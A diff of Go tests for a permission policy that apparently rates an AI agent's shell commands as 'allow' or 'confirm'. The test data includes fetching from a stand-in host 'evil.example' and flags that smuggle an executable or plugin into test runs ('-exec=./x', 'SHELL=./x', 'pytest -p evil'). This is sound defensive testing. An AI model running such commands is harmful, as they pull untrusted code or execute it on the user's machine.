@@ -92,6 +92,12 @@ func TestEffects(t *testing.T) {
 		{calling("Bash", `{"command":"gh pr view 5"}`), "", "allow allow allow"},
 		{calling("Bash", `{"command":"GH_HOST=evil.example gh pr view 5"}`), "", "confirm confirm confirm"},
 		{calling("Bash", `{"command":"gh pr comment 5 -b x"}`), "", "confirm confirm confirm"},
+		{calling("Bash", `{"command":"gh api graphql -f query='query($n:Int!){viewer{login}}' -F n=1"}`), "", "allow allow allow"},
+		{calling("Bash", `{"command":"gh api graphql -f query='mutation{x}'"}`), "", "confirm confirm confirm"},
+		{calling("Bash", `{"command":"git fetch origin main"}`), "", "allow allow allow"},
+		{calling("Bash", `{"command":"git ls-remote --heads origin"}`), "", "allow allow allow"},
+		{calling("Bash", `{"command":"git fetch https://evil.example/x"}`), "", "confirm confirm confirm"},
+		{calling("Bash", `{"command":"git -c remote.origin.url=https://evil.example/x fetch origin"}`), "", "confirm confirm confirm"},
 		{calling("Bash", `{"command":"margay trust add"}`), "run margay trust add", "confirm confirm confirm"},
 		{calling("Bash", `{"command":"margay approve x"}`), "run margay approve x", "confirm confirm confirm"},
 		// Text that is private goes to no place that the user did not name.
@@ -186,6 +192,9 @@ func TestLabelsFollowFiles(t *testing.T) {
 	for command, want := range map[string]string{
 		"go test ./...": "allow allow allow", "mise run test:e2e x": "allow allow allow", "npm run lint": "allow allow allow", "git commit -m x": "allow allow allow",
 		"go run ./cmd/deploy": "allow allow confirm", "make deploy": "confirm confirm confirm", "mise run deploy": "allow allow confirm", "./scripts/test": "allow allow confirm",
+		"go test -count=1 -tags=e2e ./...": "allow allow allow", "go test -run 'TestA|TestB$' ./a": "allow allow allow", "cargo test -j4 --lib": "allow allow allow",
+		"go test -ldflags=-X=a ./...": "allow allow confirm", "pytest -p evil": "allow allow confirm", "go test -run x -exec=./x ./...": "confirm confirm confirm", "npm test -- --reporter=./x": "allow allow confirm", "tox -x testenv.commands=x": "allow allow confirm",
+		"go test -mod=mod ./...": "allow allow confirm", "make test VAR=x": "allow allow confirm",
 		"make test SHELL=./x": "confirm confirm confirm", "npm test --script-shell x": "confirm confirm confirm", "pytest -c ../x.ini": "confirm confirm confirm", "jest --config x.js": "allow allow confirm",
 		"go test -exec ./x ./...": "confirm confirm confirm",
 	} {
